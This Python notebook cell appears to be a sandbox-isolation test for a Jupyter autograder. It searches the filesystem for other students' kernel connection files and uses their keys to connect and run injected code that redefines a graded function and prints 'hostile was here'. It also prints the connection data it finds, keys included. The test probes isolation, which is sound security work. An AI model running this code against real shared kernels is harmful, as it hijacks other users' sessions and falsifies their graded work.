# Finds the kernels of students graded at the same time by their connection files, reads their names and changes them.
# base: right
# needs: sandbox
# says: tried
# %% square-write
import glob
import json
import os
import time

from jupyter_client import BlockingKernelClient

CHANGE = "square = lambda x: 'hostile'; print('hostile was here')"
own = get_ipython().config.IPKernelApp.connection_file
end = time.time() + 3
while time.time() < end:
    places = ("/tmp/**/*.json", "/run/**/*.json", "/proc/[0-9]*/root/run/kernel/*.json", "/dev/shm/**/*.json")
    for path in {found for place in places for found in glob.glob(place, recursive=True)} - {own}:
        try:
            about = json.load(open(path))
            if "key" not in about or "-f" == path:
                continue
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            if client.session.key == get_ipython().kernel.session.key:
                continue
            client.start_channels()
            client.execute(CHANGE)
            print("canary-neighbour", path, about)
        except (OSError, ValueError):
            pass
    time.sleep(1)
print("tried")
